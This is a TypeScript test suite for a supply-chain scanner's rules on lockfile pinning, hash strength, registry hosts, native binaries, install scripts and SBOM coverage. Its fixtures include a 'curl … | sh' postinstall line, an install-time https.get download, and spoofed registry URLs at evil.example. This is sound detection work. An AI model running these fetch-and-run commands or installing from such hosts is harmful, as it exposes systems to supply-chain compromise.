import { installDownloads } from '../../../src/judge/rules/install/downloads.ts';
import { fetchesProprietary } from '../../../src/judge/rules/install/fetches-proprietary.ts';
import { installScript } from '../../../src/judge/rules/install/script.ts';
import { integrityChanged } from '../../../src/judge/rules/lock/integrity-changed.ts';
import { manifestDrift } from '../../../src/judge/rules/lock/manifest-drift.ts';
import { newBinary } from '../../../src/judge/rules/lock/new-binary.ts';
import { unexpectedIndex } from '../../../src/judge/rules/lock/unexpected-index.ts';
import { hashMissing } from '../../../src/judge/rules/pin/hash-missing.ts';
import { hashWeak } from '../../../src/judge/rules/pin/hash-weak.ts';
import { unpinned } from '../../../src/judge/rules/pin/unpinned.ts';
import { sbomDisagrees } from '../../../src/judge/rules/sbom/disagrees.ts';
import { sbomMissing } from '../../../src/judge/rules/sbom/missing.ts';
import type { Facts } from '../../../src/types.ts';
import { artifact, component, locked, metadata, so, source, testRule } from '../support.ts';

const requests = 'pkg:pypi/requests@2.32.3';
testRule(unpinned, {
  pass: [
    { name: 'an exact version', facts: locked({ lock: { purl: requests } }) },
    { name: 'a Debian version with ~ inside', facts: locked({ lock: { purl: 'pkg:deb/debian/a@1', version: '2.36-9~bpo12+1' } }) },
    { name: 'an epoch', facts: locked({ lock: { purl: 'pkg:pypi/a@1', version: '1!2.0' } }) },
    { name: 'a folder', facts: locked({ lock: { purl: 'pkg:pypi/demo', resolved: { kind: 'path', url: '.' } } }) },
    { name: 'a hash pins, too', facts: locked({ lock: { purl: 'pkg:pypi/demo', hashes: ['sha256:00'] } }) },
  ],
  fail: [
    { name: 'a range', facts: locked({ lock: { purl: 'pkg:pypi/requests', version: '>=2' } }), finds: ['unpinned'] },
    { name: 'no version', facts: locked({ lock: { purl: 'pkg:pypi/requests' } }), finds: ['unpinned'] },
    { name: 'the reader says so', facts: locked({ lock: { purl: 'pkg:conda/numpy@1.26', notes: ['unpinned'] } }), finds: ['unpinned'] },
  ],
});

const unhashed = ['pkg:pypi/a@1', 'pkg:pypi/b@1'].map((purl) => locked({ lock: { purl } }));
/** The facts of uv.lock itself, which holds these packages. */
const wholeLock = (...packages: Facts[]): Facts => ({
  ...artifact(),
  subject: { kind: 'lockfile', path: 'uv.lock', format: 'uv' },
  packages: packages.map((facts) => facts.locked!),
});
const hashed = (purl: string) => locked({ lock: { purl, hashes: ['sha256:00'] } });
testRule(hashMissing, {
  pass: [
    { name: 'all have one', facts: [hashed(requests), hashed('pkg:pypi/idna@3')] },
    { name: 'of a file', facts: [locked({ lock: { purl: requests, files: [{ name: 'a.whl', kind: 'pure', hash: 'sha256:00' }] } })] },
    { name: 'git has ids', facts: [hashed(requests), locked({ lock: { purl: 'pkg:pypi/a@1', resolved: { kind: 'git', commit: 'a'.repeat(40) } } })] },
    { name: 'bundled in its parent', facts: [hashed(requests), locked({ lock: { purl: 'pkg:npm/a@1', notes: ['bundled in its parent'] } })] },
    { name: 'vendored: it lies in the checkout', facts: [locked({ lock: { purl: 'pkg:golang/a@v1', notes: ['vendored'] } })] },
  ],
  fail: [
    { name: 'one without', facts: [hashed(requests), locked({ lock: { purl: 'pkg:pypi/idna@3' } })], finds: ['one'] },
    {
      name: 'hashes of the index are none of the lock',
      facts: [locked({ lock: { purl: requests }, indexFiles: [{ name: 'requests-2.32.3-py3-none-any.whl', kind: 'pure', hash: 'sha256:00' }] })],
      finds: ['one'],
    },
    {
      name: 'two new ones without, in a lock that has hashes for the rest',
      facts: [wholeLock(hashed('pkg:pypi/idna@3'), ...unhashed), ...unhashed],
      finds: ['one', 'one'],
    },
    {
      name: 'yarn.lock without checksums for other platforms: one finding',
      facts: [
        hashed('pkg:npm/esbuild@0.25.0'),
        ...['win32-x64', 'darwin-arm64'].map((name) =>
          locked({ lock: { purl: `pkg:npm/%40esbuild/${name}@0.25.0`, notes: ['no checksum: for a platform that was not fetched'] } }),
        ),
      ],
      finds: ['platforms'],
    },
    { name: 'one new one without, in a lock that has no hash', facts: [wholeLock(...unhashed), unhashed[0]!], finds: ['all'] },
    {
      name: 'none at all: one finding for the lock',
      facts: ['pkg:gem/a@1', 'pkg:gem/b@1', 'pkg:gem/c@1'].map((purl) => locked({ lock: { purl }, path: 'Gemfile.lock' })),
      finds: ['all'],
    },
  ],
});

testRule(hashWeak, {
  pass: [
    { name: 'sha512', facts: locked({ lock: { purl: 'pkg:npm/a@1', hashes: ['sha512-AAAA'] } }) },
    { name: 'sha1 beside sha512', facts: locked({ lock: { purl: 'pkg:npm/a@1', hashes: ['sha1-AAAA', 'sha512-AAAA'] } }) },
    { name: 'none is pin/hash-missing', facts: locked({ lock: { purl: 'pkg:npm/a@1' } }) },
    { name: 'go.sum', facts: locked({ lock: { purl: 'pkg:golang/a@v1', hashes: ['h1:AAAA'] } }) },
  ],
  fail: [
    { name: 'sha1', facts: locked({ lock: { purl: 'pkg:npm/a@1', hashes: ['sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk='] } }), finds: ['weak'] },
    { name: 'md5', facts: locked({ lock: { purl: 'pkg:conda/a@1', hashes: ['md5:d41d8cd98f00b204e9800998ecf8427e'] } }), finds: ['weak'] },
  ],
});

testRule(integrityChanged, {
  pass: [
    { name: 'not compared', facts: hashed(requests) },
    { name: 'updated', facts: { ...hashed(requests), change: { kind: 'updated', from: '2.32.2' } } },
  ],
  fail: [
    {
      name: 'another hash',
      facts: { ...hashed(requests), change: { kind: 'integrity-changed', from: 'sha256:11' } },
      finds: ['changed'],
      about: ['sha256:00'],
    },
    {
      name: 'the hash is gone',
      facts: { ...locked({ lock: { purl: requests } }), change: { kind: 'integrity-changed', from: 'sha256:11' } },
      finds: ['changed'],
    },
  ],
});

testRule(manifestDrift, {
  pass: [{ name: 'in step', facts: artifact() }],
  fail: [
    {
      name: 'a dependency is missing',
      facts: {
        ...artifact(),
        subject: { kind: 'lockfile', path: 'package-lock.json', format: 'npm' },
        observations: [{ kind: 'manifest-drift', path: 'package-lock.json', line: 7, value: 'axios is in package.json and not here' }],
      },
      finds: ['drift'],
    },
  ],
});

const from = (url: string, kind: 'registry' | 'git' = 'registry') => locked({ lock: { purl: 'pkg:npm/a@1', resolved: { kind, url } } });
testRule(unexpectedIndex, {
  pass: [
    { name: 'any host over https', facts: from('https://registry.acme.example/a/-/a-1.tgz') },
    { name: 'the host of the list', facts: from('https://registry.acme.example/a/-/a-1.tgz'), options: { allow: ['registry.acme.example'] } },
    { name: 'a path of the list', facts: from('https://mirror.example/npm/a/-/a-1.tgz'), options: { allow: ['mirror.example/npm/**'] } },
    {
      name: 'from another host, and the configured index has the very same bytes',
      facts: {
        ...from('https://mirror.example/a/-/a-1.tgz'),
        stranger: { host: 'mirror.example', most: 'registry.acme.example' },
        source: source('published'),
      },
    },
    {
      name: 'from a host that is listed',
      facts: { ...from('https://second.example/a/-/a-1.tgz'), stranger: { host: 'second.example' } },
      options: { allow: ['second.example'] },
    },
    { name: 'this very machine', facts: from('http://localhost:4873/a/-/a-1.tgz') },
    { name: 'the lock does not say', facts: locked({ lock: { purl: 'pkg:npm/a@1' } }) },
    { name: 'a repository, not asked for', facts: from('git+https://forge.example/a.git', 'git') },
  ],
  fail: [
    {
      name: 'from another host than most of the lock, which is not configured',
      facts: { ...from('https://evil.example/a/-/a-1.tgz'), stranger: { host: 'evil.example', most: 'registry.acme.example' } },
      finds: ['stranger?'],
    },
    {
      name: 'an address that no registry has, and the index does not know it',
      facts: {
        ...locked({ lock: { purl: 'pkg:npm/a@1', resolved: { kind: 'url', url: 'https://evil.example/a-1.tgz' } } }),
        stranger: { host: 'evil.example' },
        source: source('unknown', 'the registry answered 404 for a'),
      },
      finds: ['stranger?'],
    },
    { name: "over git's own protocol, which nothing encrypts", facts: from('git://forge.example/a.git', 'git'), finds: ['plain'] },
    { name: 'over http', facts: from('http://registry.acme.example/a/-/a-1.tgz'), finds: ['plain'] },
    { name: 'another host', facts: from('https://evil.example/a/-/a-1.tgz'), options: { allow: ['registry.acme.example'] }, finds: ['other'] },
    {
      name: 'a host that only begins alike',
      facts: from('https://registry.acme.example.evil.example/a-1.tgz'),
      options: { allow: ['registry.acme.example'] },
      finds: ['other'],
    },
    {
      name: 'a user name that looks like the host',
      facts: from('https://registry.acme.example@evil.example/a-1.tgz'),
      options: { allow: ['registry.acme.example'] },
      finds: ['other'],
    },
    { name: 'a repository', facts: from('git+ssh://git@forge.example/a.git', 'git'), options: { git: true }, finds: ['git'] },
  ],
});

const added = { kind: 'added' } as const;
testRule(newBinary, {
  pass: [
    { name: 'not new', facts: locked({ lock: { purl: requests }, native: [so('a.so')] }) },
    {
      name: 'new, and pure',
      facts: locked({ lock: { purl: requests, files: [{ name: 'requests-2.32.3-py3-none-any.whl', kind: 'pure' }] }, change: added }),
    },
    {
      name: 'a pure file can be chosen',
      facts: locked({
        lock: {
          purl: 'pkg:pypi/markupsafe@3',
          files: [
            { name: 'a-py3-none-any.whl', kind: 'pure' },
            { name: 'a-cp312.whl', kind: 'binary' },
          ],
        },
        change: added,
      }),
    },
  ],
  fail: [
    {
      name: 'torch',
      facts: locked({
        lock: { purl: 'pkg:pypi/torch@1.9.0', files: [{ name: 'torch-1.9.0-cp38-cp38-manylinux1_x86_64.whl', kind: 'binary' }] },
        change: added,
      }),
      finds: ['added'],
    },
    {
      name: 'listed inside, beside a pure wheel',
      facts: locked({
        lock: {
          purl: 'pkg:pypi/protobuf@5',
          files: [
            { name: 'protobuf-5-py3-none-any.whl', kind: 'pure' },
            { name: 'protobuf-5-cp38-abi3-manylinux2014_x86_64.whl', kind: 'binary' },
          ],
        },
        lookedInto: { name: 'protobuf-5-cp38-abi3-manylinux2014_x86_64.whl', format: 'wheel' },
        contents: {
          files: 2,
          packed: 2,
          unpacked: 2,
          kinds: [{ kind: 'native code by name', files: 1, packed: 1, unpacked: 1 }],
          largest: [{ path: 'google/_upb/_message.abi3.so', packed: 1, unpacked: 1, kind: 'native code by name' }],
        },
        change: added,
      }),
      finds: ['added'],
    },
    {
      name: 'seen inside',
      facts: locked({ lock: { purl: 'pkg:npm/argon2@0.41.1' }, native: [so('prebuilds/linux-x64/argon2.glibc.node')], change: added }),
      finds: ['added'],
    },
    {
      name: 'an npm platform package',
      facts: locked({ lock: { purl: 'pkg:npm/%40esbuild/linux-x64@0.23.1', compiled: 'os/cpu limits' }, change: added }),
      finds: ['added'],
    },
  ],
});

const scripts = (...installScripts: string[]) =>
  artifact({ subject: { format: 'npm', path: 'a.tgz' }, metadata: metadata({ name: 'argon2', purl: 'pkg:npm/argon2@0.41.1', installScripts }) });
testRule(installScript, {
  pass: [
    { name: 'axios', facts: scripts() },
    { name: 'read and allowed', facts: scripts('install: node-gyp-build'), options: { allow: ['argon2'] } },
    { name: 'a Debian package', facts: artifact({ subject: { format: 'deb' }, metadata: metadata({ installScripts: ['postinst'] }) }) },
    { name: 'a lock that says nothing', facts: locked({ lock: { purl: 'pkg:npm/a@1' } }) },
  ],
  fail: [
    { name: 'argon2', facts: scripts('install: node-gyp-build'), finds: ['runs'], about: ['install'] },
    { name: 'the lock says so', facts: locked({ lock: { purl: 'pkg:npm/esbuild@0.23.1', installScript: true } }), finds: ['runs'] },
    {
      name: 'a .pth file',
      facts: artifact({ metadata: metadata({ installScripts: ['distutils-precedence.pth: import os; ...'] }) }),
      finds: ['start'],
    },
    {
      name: 'a Debian package, asked for',
      facts: artifact({ subject: { format: 'deb' }, metadata: metadata({ installScripts: ['postinst'] }) }),
      options: { 'maintainer-scripts': true },
      finds: ['runs'],
    },
  ],
});

testRule(installDownloads, {
  pass: [
    { name: 'takes what the package holds', facts: scripts('install: node-gyp-build') },
    { name: 'a word that only looks alike', facts: scripts('postinstall: node curly.js') },
  ],
  fail: [
    { name: 'prebuild-install', facts: scripts('install: prebuild-install || node-gyp rebuild'), finds: ['fetches'] },
    { name: 'curl', facts: scripts('postinstall: curl -L https://x.example/tool | sh'), finds: ['fetches'] },
    {
      name: 'seen in a script',
      facts: artifact({ observations: [{ kind: 'download', path: 'install.js', line: 3, value: "https.get('https://x.example/tool.zip')" }] }),
      finds: ['fetches'],
    },
  ],
});

testRule(fetchesProprietary, {
  pass: [
    {
      name: 'the library itself',
      facts: artifact({
        metadata: metadata({ name: 'nvidia-cuda-runtime-cu12', purl: 'pkg:pypi/nvidia-cuda-runtime-cu12@12.4.127' }),
        native: [so('libcudart.so.12')],
      }),
    },
    { name: 'a requirement by name', facts: artifact({ metadata: metadata({ requires: ['idna>=2'] }) }) },
    { name: 'the same name in another ecosystem', facts: locked({ lock: { purl: 'pkg:npm/tensorrt@1' } }) },
  ],
  fail: [
    { name: 'nvidia-pyindex', facts: locked({ lock: { purl: 'pkg:pypi/nvidia-pyindex@1.0.9' } }), finds: ['fetches'] },
    {
      name: 'a requirement by address',
      facts: artifact({ metadata: metadata({ requires: ['vendorlib @ https://vendor.example/vendorlib-1.0-py3-none-any.whl'] }) }),
      finds: ['fetches'],
    },
  ],
});

const webp = component('libwebp');
const sboms = [{ path: 'a.dist-info/sboms/a.cdx.json', format: 'cyclonedx', components: [] }];
testRule(sbomMissing, {
  pass: [
    { name: 'only its own code', facts: artifact({ metadata: metadata() }) },
    { name: 'pillow 13: an SBOM', facts: artifact({ metadata: metadata({ sboms }), components: [webp] }) },
    { name: 'what a compiler adds', facts: artifact({ metadata: metadata(), components: [component('libgcc', { how: 'static' })] }) },
  ],
  fail: [{ name: 'pillow 11', facts: artifact({ metadata: metadata(), components: [webp] }), finds: ['missing'], about: ['libwebp'] }],
});
testRule(sbomDisagrees, {
  pass: [
    { name: 'no SBOM is sbom/missing', facts: artifact({ metadata: metadata(), components: [webp] }) },
    {
      name: 'it names it',
      facts: artifact({ metadata: metadata({ sboms }), components: [{ ...webp, declaredBy: ['a.dist-info/sboms/a.cdx.json'] }] }),
    },
    {
      name: 'pillow 13: it names libwebp, of which there is a file and a copy linked in',
      facts: artifact({
        metadata: metadata({ sboms }),
        components: [
          { ...webp, declaredBy: ['a.dist-info/sboms/a.cdx.json'] },
          { ...webp, how: 'static' },
        ],
      }),
    },
    {
      name: 'linked in, and only likely',
      facts: artifact({ metadata: metadata({ sboms }), components: [component('brotli', { how: 'static', confidence: 'likely' })] }),
    },
  ],
  fail: [
    {
      name: 'pillow 13: libzstd is not named',
      facts: artifact({ metadata: metadata({ sboms }), components: [component('zstd')] }),
      finds: ['omits'],
      about: ['zstd'],
    },
  ],
});
